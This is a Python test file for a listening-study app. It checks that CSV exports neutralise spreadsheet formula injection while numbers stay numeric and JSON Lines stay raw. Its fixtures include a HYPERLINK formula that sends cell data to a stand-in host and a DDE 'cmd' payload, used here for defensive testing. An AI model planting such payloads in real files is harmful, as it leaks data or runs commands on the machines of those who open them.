"""Exports are safe to open in a spreadsheet: no text cell can run as a formula.

Free text (participants' answers, titles, genres, providers, attribute names, Prolific
ids) that starts with = + - @ tab or carriage return gets a leading ' in every CSV table
(OWASP's rule), text starting with ' gets one more (so one ' comes off every text cell
that starts with it, exactly); numbers stay plain numbers that pandas and R read as
numbers (loudness values are negative); the JSON Lines keep the raw text.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from typing import Any

import pandas as pd
import pytest

from listening.models import Session, Stimulus, Study, Track
from listening.research.exports import ROW_BUILDERS, TABLES, export_chunks, write_bundle
from tests.listening.base import BaseTestCase
from tests.listening.results_fixtures import ready_study, simulate

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
HOSTILE = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "'quoted"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class ExportInjectionTestCase(BaseTestCase):
    study_with_text: Study

    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        study = ready_study(cls.researcher, n_tracks=2, title=ATTACK)
        Study.objects.filter(pk=study.pk).update(attributes=["=cmd|' /C calc'!A0", "clarity"])
        tracks = list(study.tracks.order_by("pk"))
        Track.objects.filter(pk=tracks[0].pk).update(title=ATTACK, genre="@genre")
        Track.objects.filter(pk=tracks[1].pk).update(title="+track", genre="-genre")
        Stimulus.objects.filter(track__study=study, system="ai").update(provider="-LANDR")
        Stimulus.objects.filter(track__study=study, system="human").update(provider="@Eng")
        study.refresh_from_db()
        simulate(study, 3, seed=2)
        answers = dict(enumerate(HOSTILE))
        for i, session in enumerate(Session.objects.filter(study=study).order_by("pk")):
            session.questionnaire = {f"free_{k}": v for k, v in answers.items()}
            session.final_questionnaire = {"comments": HOSTILE[i % len(HOSTILE)], "years": -3}
            session.prolific_pid = f"-pid{i}"
            session.save()
        cls.study_with_text = study

    def tables(self, fmt: str) -> dict[str, str]:
        names = [*ROW_BUILDERS, "webmushra"] if fmt == "csv" else list(ROW_BUILDERS)
        return {t: "".join(export_chunks(self.study_with_text, t, fmt)) for t in names}

    def test_no_csv_cell_of_any_table_starts_a_formula(self) -> None:
        escaped = 0
        for table, text in self.tables("csv").items():
            rows = list(csv.reader(io.StringIO(text, newline="")))
            if table not in ("abx", "preferences"):  # a MUSHRA study has no choice answers
                assert len(rows) > 1, table
            for row in rows:
                for cell in row:
                    if cell.startswith(TRIGGERS):
                        float(cell)  # only a plain number may start with "-"
                    escaped += cell.startswith("'")
        assert escaped > 50

    def test_csv_text_comes_back_exactly_by_removing_one_quote(self) -> None:
        sessions = pd.read_csv(io.StringIO(self.tables("csv")["sessions"]))
        restored = sessions.map(lambda v: v[1:] if isinstance(v, str) and v[:1] == "'" else v)
        for k, value in enumerate(HOSTILE):
            assert set(restored[f"q_free_{k}"]) == {value}
        assert set(restored["prolific_pid"]) == {"-pid0", "-pid1", "-pid2"}
        assert sessions["final_years"].tolist() == [-3, -3, -3]  # a number stays a number

    def test_numeric_columns_stay_numbers_for_pandas(self) -> None:
        text = self.tables("csv")
        stimuli = pd.read_csv(io.StringIO(text["stimuli"]))
        ratings = pd.read_csv(io.StringIO(text["ratings"]))
        for column in ("integrated", "true_peak", "psr"):
            assert pd.api.types.is_float_dtype(stimuli[column]), column
        assert (stimuli["integrated"].dropna() < 0).all()
        assert pd.api.types.is_integer_dtype(ratings["score"])
        assert set(ratings["track"]) == {"'" + ATTACK, "'+track"}

    @pytest.mark.skipif(shutil.which("Rscript") is None, reason="R is not installed")
    def test_numeric_columns_stay_numbers_for_r(self) -> None:
        folder = self.media_root / "r"
        folder.mkdir()
        (folder / "stimuli.csv").write_text(self.tables("csv")["stimuli"])
        script = (
            f"d <- read.csv('{folder / 'stimuli.csv'}', stringsAsFactors = FALSE); "
            "cat(class(d$integrated), class(d$true_peak), min(d$integrated, na.rm = TRUE))"
        )
        done = subprocess.run(
            ["Rscript", "-e", script], capture_output=True, text=True, check=True, timeout=60
        )
        kind, peak_kind, lowest = done.stdout.split()
        assert (kind, peak_kind) == ("numeric", "numeric")
        assert float(lowest) < 0

    def test_json_lines_keep_the_raw_text(self) -> None:
        tables = self.tables("jsonl")
        sessions = [json.loads(line) for line in tables["sessions"].splitlines()]
        assert {s["q_free_0"] for s in sessions} == {ATTACK}
        assert {s["final_comments"] for s in sessions} <= set(HOSTILE)
        ratings = [json.loads(line) for line in tables["ratings"].splitlines()]
        assert {r["track"] for r in ratings} == {ATTACK, "+track"}
        assert {r["provider"] for r in ratings if r["system"] == "ai"} == {"-LANDR"}

    def test_the_bundle_is_escaped_says_so_and_its_report_shows_the_raw_text(self) -> None:
        buffer = io.BytesIO()
        write_bundle(self.study_with_text, buffer)
        with zipfile.ZipFile(buffer) as bundle:
            files = {name.rsplit("/", 1)[1]: bundle.read(name) for name in bundle.namelist()}
        for table in TABLES:
            for row in csv.reader(io.StringIO(files[f"{table}.csv"].decode(), newline="")):
                assert not any(c.startswith(TRIGGERS) and not _number(c) for c in row), table
        readme = files["README.md"].decode()
        assert "formula" in readme
        assert "JSON Lines" in readme
        report = files["report.html"].decode()
        assert "&#x27;=HYPERLINK" not in report
        assert "&#x27;+track" not in report
        assert "+track" in report


def _number(cell: Any) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
